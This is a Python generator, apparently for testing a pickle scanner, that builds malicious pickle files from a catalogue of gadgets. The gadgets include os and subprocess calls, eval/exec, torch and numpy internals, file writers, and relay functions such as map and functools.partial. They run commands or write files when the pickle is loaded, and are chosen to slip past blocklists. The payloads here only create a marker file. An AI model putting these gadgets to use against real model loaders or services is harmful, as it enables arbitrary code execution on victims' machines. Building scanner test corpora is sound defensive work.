"""Names that no list of forbidden names holds in full: each does harm when a pickle calls it, most by themselves, some in two steps.

Every gadget is written twice, its name by GLOBAL and by STACK_GLOBAL. What each does when really loaded stands in executes.tsv.
"""
from opcodes import *

HERE = "hullmark-was-here"
TOUCH = "touch hullmark-was-here"
CODE = "import os; os.mkdir('hullmark-was-here')"
EXPRESSION = "__import__('os').mkdir('hullmark-was-here')"
ATTACK = PROTO2 + call(name("posix", "system"), text(TOUCH)) + STOP


def named(module, attribute):
    return Made(name(module, attribute))


def made(module, attribute, *arguments):
    return Made(call(name(module, attribute), *map(constant, arguments)))


SYSTEM = named("posix", "system")
ARRAY = made("numpy", "zeros", 4)
STREAM = made("_io", "BytesIO", ATTACK)

# word: module, name, arguments
PROGRAMS = {
    "os-system": ("os", "system", TOUCH),
    "os-popen": ("os", "popen", TOUCH),
    "os-execv": ("posix", "execv", "/bin/sh", ["sh", "-c", TOUCH]),
    "os-spawnl": ("os", "spawnl", 0, "/bin/sh", "sh", "-c", TOUCH),
    "posix-spawn": ("posix", "posix_spawn", "/bin/sh", ["sh", "-c", TOUCH], {}),
    "subprocess-call": ("subprocess", "call", ["touch", HERE]),
    "subprocess-getoutput": ("subprocess", "getoutput", TOUCH),
    "subprocess-check-output": ("subprocess", "check_output", ["touch", HERE]),
    "fork-exec": ("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"sh", b"-c", TOUCH.encode()], []),
    "pty-spawn": ("pty", "spawn", ["touch", HERE]),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", made("types", "SimpleNamespace"), TOUCH, True, None, None, None, 0),
    "uuid": ("uuid", "_get_command_stdout", "touch", HERE),
    "imaplib": ("imaplib", "IMAP4_stream", TOUCH),
    "osx-support": ("_osx_support", "_read_output", TOUCH),
    "aix-support": ("_aix_support", "_read_cmd_output", TOUCH),
    "bootsubprocess": ("_bootsubprocess", "check_output", ["touch", HERE]),
    "pyrepl-pager": ("_pyrepl.pager", "pipe_pager", "x", TOUCH),
    "pydoc-pipepager": ("pydoc", "pipepager", "x", TOUCH),
    "platform-popen": ("platform", "popen", TOUCH),
    "webbrowser": ("webbrowser", "_synthesize", TOUCH),
    "ctypes": ("ctypes", "CDLL", "libc.so.6"),
    "thread": ("_thread", "start_new_thread", SYSTEM, (TOUCH,)),
    "threading-timer": ("threading", "_start_new_thread", SYSTEM, (TOUCH,)),
    "atexit": ("atexit", "register", SYSTEM, TOUCH),
    "torch-collect-env": ("torch.utils.collect_env", "run", TOUCH),
    "torch-collect-env-lines": ("torch.utils.collect_env", "run_and_read_all", named("torch.utils.collect_env", "run"), TOUCH),
    "torch-inductor": ("torch._inductor.codecache", "compile_file", HERE, HERE, ["touch", HERE]),
    "numpy-exec-command": ("numpy.distutils.exec_command", "exec_command", TOUCH),
    "distutils-spawn": ("distutils.spawn", "spawn", ["touch", HERE]),
    "setuptools-spawn": ("setuptools._distutils.spawn", "spawn", ["touch", HERE]),
}

CODES = {
    "eval": ("builtins", "eval", EXPRESSION),
    "exec": ("builtins", "exec", CODE),
    "import": ("builtins", "__import__", "antigravity_of_the_attacker"),
    "importlib": ("importlib", "import_module", "antigravity_of_the_attacker"),
    "timeit": ("timeit", "timeit", "pass", CODE, named("timeit", "default_timer"), 1),
    "timeit-repeat": ("timeit", "repeat", "pass", CODE, named("timeit", "default_timer"), 1, 1),
    "cprofile": ("cProfile", "run", CODE),
    "cprofile-runctx": ("cProfile", "runctx", CODE, {}, {}),
    "profile": ("profile", "run", CODE),
    "trace": ("trace", "Trace.run", made("trace", "Trace"), CODE),
    "bdb": ("bdb", "Bdb.run", made("bdb", "Bdb"), CODE, {}, {}),
    "code-interpreter": ("code", "InteractiveInterpreter.runcode", made("code", "InteractiveInterpreter"), made("builtins", "compile", CODE, "x", "exec")),
    "code-runsource": ("code", "InteractiveInterpreter.runsource", made("code", "InteractiveInterpreter"), CODE),
    "doctest": ("doctest", "run_docstring_examples", 'x\n>>> import os\n>>> os.mkdir("hullmark-was-here")\n', {}),
    "runpy-code": ("runpy", "_run_code", made("builtins", "compile", CODE, "x", "exec"), {}),
    "runpy-path": ("runpy", "run_path", "hullmark-was-here.py"),
    "runpy-module": ("runpy", "run_module", "antigravity_of_the_attacker"),
    "zipimport": ("zipimport", "zipimporter", "hullmark-was-here.zip"),
    "numpy-f2py": ("numpy.f2py.crackfortran", "myeval", EXPRESSION),
    "numpy-f2py-coefficient": ("numpy.f2py.crackfortran", "getlincoef", EXPRESSION, ["x"]),
    "numpy-runstring": ("numpy.testing._private.utils", "runstring", CODE, {}),
    "numpy-measure": ("numpy.testing", "measure", CODE),
    "torch-exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", CODE, {}, {}),
    "torch-fx": ("torch.fx.graph_module", "reduce_graph_module", {"_code": CODE + "\ndef forward(self):\n    pass\n"}, ""),
    "torch-fx-source": ("torch.fx.graph_module", "_exec_with_source", CODE, {}),
    "torch-fx-forward": ("torch.fx.graph_module", "_forward_from_src", CODE + "\ndef forward(self):\n    pass\n", {}),
    "torch-config": ("torch.utils._config_module", "ConfigModule.load_config", named("torch._dynamo", "config"), ATTACK),
    "torch-config-bound": ("torch._inductor.config", "load_config", ATTACK),
    "torch-hub": ("torch.hub", "load", "hullmark-was-here", "entry", "local"),
    "torch-cpp-extension": ("torch.utils.cpp_extension", "load_inline", "x", "int x;"),
    "sympy": ("sympy", "sympify", EXPRESSION),
    "sympy-parser": ("sympy.parsing.sympy_parser", "eval_expr", EXPRESSION, {}, {}),
    "pip": ("pip", "main", ["--log", HERE, "cache", "dir"]),
}

FILES = {
    "open": ("builtins", "open", HERE, "w"),
    "io-open": ("_io", "FileIO", HERE, "w"),
    "codecs-open": ("codecs", "open", HERE, "w"),
    "gzip-open": ("gzip", "open", HERE, "wb"),
    "bz2-open": ("bz2", "open", HERE, "wb"),
    "lzma-open": ("lzma", "open", HERE, "wb"),
    "zipfile": ("zipfile", "ZipFile", HERE, "w"),
    "tarfile": ("tarfile", "open", HERE, "w"),
    "sqlite": ("sqlite3", "connect", HERE),
    "shelve": ("shelve", "open", HERE),
    "dbm-dumb": ("dbm.dumb", "open", HERE),
    "wave": ("wave", "open", HERE, "w"),
    "mailbox": ("mailbox", "Maildir", HERE),
    "logging-file": ("logging", "FileHandler", HERE),
    "logging-rotating": ("logging.handlers", "RotatingFileHandler", HERE),
    "logging-config": ("logging.config", "dictConfig", {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": HERE}}}),
    "mkdtemp": ("tempfile", "mkdtemp", "", HERE),
    "mkstemp": ("tempfile", "mkstemp", "", HERE),
    "mkdir": ("posix", "mkdir", HERE),
    "symlink": ("posix", "symlink", "/etc", HERE),
    "pathlib-touch": ("pathlib", "Path.touch", made("pathlib", "Path", HERE)),
    "pathlib-write": ("pathlib", "Path.write_text", made("pathlib", "Path", HERE), "x"),
    "shutil-copy": ("shutil", "copyfile", "/etc/hostname", HERE),
    "shutil-archive": ("shutil", "make_archive", HERE, "zip", "/proc/self/task"),
    "distutils": ("distutils.file_util", "write_file", HERE, ["x"]),
    "mkpath": ("distutils.dir_util", "mkpath", HERE),
    "profile-file": ("cProfile", "run", "1", HERE),
    "fileinput": ("fileinput", "input", HERE),
    "linecache": ("linecache", "getlines", "/etc/hostname"),
    "urlretrieve": ("urllib.request", "urlretrieve", "file:///etc/hostname", HERE),
    "venv": ("venv", "create", HERE),
    "numpy-memmap": ("numpy", "memmap", HERE, "u1", "w+", 0, (4,)),
    "numpy-save": ("numpy", "save", HERE, ARRAY),
    "numpy-savez": ("numpy", "savez", HERE, ARRAY),
    "numpy-savetxt": ("numpy", "savetxt", HERE, ARRAY),
    "numpy-tofile": ("numpy", "ndarray.tofile", ARRAY, HERE),
    "numpy-dump": ("numpy", "ndarray.dump", ARRAY, HERE),
    "numpy-open-memmap": ("numpy.lib.format", "open_memmap", HERE, "w+", named("builtins", "int"), (4,)),
    "numpy-load": ("numpy", "load", STREAM, None, True),
    "scipy-savemat": ("scipy.io", "savemat", HERE, {"a": 1}),
    "torch-save": ("torch", "save", 1, HERE),
    "torch-from-file": ("torch", "from_file", HERE, True, 4),
    "torch-storage-from-file": ("torch", "UntypedStorage.from_file", HERE, True, 4),
    "torch-file-writer": ("torch._C", "PyTorchFileWriter", HERE),
    "joblib-dump": ("joblib", "dump", 1, HERE),
    "joblib-load": ("joblib", "load", STREAM),
    "joblib-memory": ("joblib.memory", "Memory", HERE),
}

# A name that gives a name: the second step calls what the first returned.
STEPS = {
    "torch-load": (Made(name("functools", "partial") + items(name("torch", "load"), STREAM.content) + constant({"weights_only": False}) + NEWOBJ_EX),),
    "partial-state": (Made(name("functools", "partial") + items(name("builtins", "len")) + NEWOBJ + items(SYSTEM.content, constant((TOUCH,)), EMPTY_DICT, EMPTY_DICT) + BUILD),),
    "pydoc-locate": (made("pydoc", "locate", "posix.system"), TOUCH),
    "pkgutil-resolve-name": (made("pkgutil", "resolve_name", "posix:system"), TOUCH),
    "getattr": (made("builtins", "getattr", named("posix", "__loader__"), "load_module"), "posix"),
    "getattr-of-import": (made("builtins", "getattr", made("builtins", "__import__", "posix"), "system"), TOUCH),
    "operator-attrgetter": (Made(call(made("operator", "attrgetter", "system").content, made("importlib", "import_module", "posix").content)), TOUCH),
    "operator-methodcaller": (made("operator", "methodcaller", "system", TOUCH), made("importlib", "import_module", "posix")),
    "functools-partial": (made("functools", "partial", SYSTEM, TOUCH),),
    "functools-lru-cache": (made("functools", "lru_cache", SYSTEM), TOUCH),
    "functools-singledispatch": (made("functools", "singledispatch", SYSTEM), TOUCH),
    "numpy-vectorize": (made("numpy", "vectorize", SYSTEM), TOUCH),
    "numpy-frompyfunc": (made("numpy", "frompyfunc", SYSTEM, 1, 1), TOUCH),
    "types-method-type": (made("types", "MethodType", SYSTEM, TOUCH),),
    "weakref-finalize": (made("weakref", "finalize", named("collections", "OrderedDict"), SYSTEM, TOUCH),),
    "sys-modules": (made("builtins", "getattr", made("operator", "getitem", named("sys", "modules"), "posix"), "system"), TOUCH),
    "webbrowser-generic": (named("webbrowser", "GenericBrowser.open"), made("webbrowser", "GenericBrowser", "touch"), HERE),
    "marshal-code": (made("types", "FunctionType", made("builtins", "compile", CODE, "x", "exec"), {}),),
    "cloudpickle": (made("cloudpickle.cloudpickle", "_make_function", made("builtins", "compile", CODE, "x", "exec"), {}, "f", None, None),),
    "dill": (made("dill._dill", "_create_function", made("builtins", "compile", CODE, "x", "exec"), {}),),
}

# Functions that call what they are given.
RELAYS = {
    "operator-call": ("_operator", "call", SYSTEM, TOUCH),
    "reduce": ("_functools", "reduce", named("builtins", "eval"), [{}], EXPRESSION),
    "map": ("builtins", "list", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-tuple": ("builtins", "tuple", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-set": ("builtins", "set", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-frozenset": ("builtins", "frozenset", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-bytes": ("builtins", "bytes", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-bytearray": ("builtins", "bytearray", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-deque": ("collections", "deque", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-counter": ("collections", "Counter", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-ordered-dict": ("collections", "OrderedDict", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-dict": ("builtins", "dict", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-torch-size": ("torch", "Size", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-array": ("array", "array", "b", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-fromiter": ("numpy", "fromiter", made("builtins", "map", SYSTEM, [TOUCH]), "i4"),
    "map-in-any": ("builtins", "any", made("builtins", "map", SYSTEM, [TOUCH])),
    "map-in-sum": ("builtins", "sum", made("builtins", "map", SYSTEM, [TOUCH])),
    "filter": ("builtins", "list", made("builtins", "filter", SYSTEM, [TOUCH])),
    "starmap": ("builtins", "list", made("itertools", "starmap", SYSTEM, [(TOUCH,)])),
    "accumulate": ("builtins", "list", made("itertools", "accumulate", [EXPRESSION, {}], named("builtins", "eval"))),
    "groupby": ("builtins", "list", made("itertools", "groupby", [TOUCH], SYSTEM)),
    "iter-sentinel": ("builtins", "list", made("builtins", "iter", made("functools", "partial", SYSTEM, TOUCH), 0)),
    "heapq-nsmallest": ("heapq", "nsmallest", 1, [TOUCH, TOUCH], SYSTEM),
    "copyreg-pickle": ("copyreg", "pickle", named("collections", "OrderedDict"), SYSTEM),
    "copyreg-constructor": ("copyreg", "constructor", SYSTEM),
    "copyreg-newobj": ("copyreg", "__newobj__", named("subprocess", "Popen"), TOUCH),
    "copyreg-newobj-ex": ("copyreg", "__newobj_ex__", named("subprocess", "Popen"), ["touch", HERE], {}),
    "copyreg-reconstructor": ("copyreg", "_reconstructor", named("sqlite3", "Connection"), named("sqlite3", "Connection"), HERE),
    "numpy-apply-along-axis": ("numpy", "apply_along_axis", named("subprocess", "call"), 0, made("numpy", "array", ["touch", HERE])),
    "numpy-piecewise": ("numpy", "piecewise", made("numpy", "array", ["touch", HERE]), [made("numpy", "array", [True, True])], [named("subprocess", "call")]),
    "torch-type-v2": ("torch._tensor", "_rebuild_from_type_v2", SYSTEM, named("torch", "Tensor"), (TOUCH,), None),
    "torch-type": ("torch._tensor", "_rebuild_from_type", SYSTEM, named("torch", "Tensor"), (TOUCH,), {}),
    "torch-wrapper-subclass": ("torch._utils", "_rebuild_wrapper_subclass", SYSTEM, None, (1,), (1,), 0, None, "cpu", False),
    "torch-load-from-bytes": ("torch.storage", "_load_from_bytes", ATTACK),
    "torch-vmap": ("torch.utils._pytree", "tree_map", SYSTEM, [TOUCH]),
    "torch-pytree": ("torch.utils._pytree", "tree_map_only", named("builtins", "str"), SYSTEM, TOUCH),
    "joblib-parallel": ("joblib", "Parallel.__call__", made("joblib", "Parallel", 1), [(SYSTEM, [TOUCH], {})]),
    "defaultdict-factory": ("operator", "getitem", made("collections", "defaultdict", made("functools", "partial", SYSTEM, TOUCH)), 1),
    "defaultdict-missing": ("collections", "defaultdict.__missing__", made("collections", "defaultdict", made("functools", "partial", SYSTEM, TOUCH)), 1),
    "concurrent-futures": ("concurrent.futures.thread", "_WorkItem.run", Made(call(name("concurrent.futures.thread", "_WorkItem"), call(name("concurrent.futures", "Future")), name("posix", "system"), items(text(TOUCH)), EMPTY_DICT))),
}


def both_ways(word, module, attribute, *arguments):
    end = items(*map(constant, arguments)) + REDUCE + STOP
    # Below protocol 4 a name with dots is one attribute.
    yield f"pickle-gadget-{word}.pkl", (PROTO4 if "." in attribute else PROTO2) + name(module, attribute) + end
    yield f"pickle-gadget-{word}-stack-global.pkl", PROTO4 + stack_name(module, attribute) + end


def cases():
    for table in (PROGRAMS, CODES, FILES):
        for word, (module, attribute, *arguments) in table.items():
            yield from both_ways(word, module, attribute, *arguments)
    for word, (function, *arguments) in STEPS.items():
        yield f"pickle-gadget-{word}.pkl", PROTO4 + function.content + items(*map(constant, arguments)) + REDUCE + STOP
    for word, (module, attribute, *arguments) in RELAYS.items():
        yield f"pickle-relay-call-{word}.pkl", PROTO4 + call(name(module, attribute), *map(constant, arguments)) + STOP
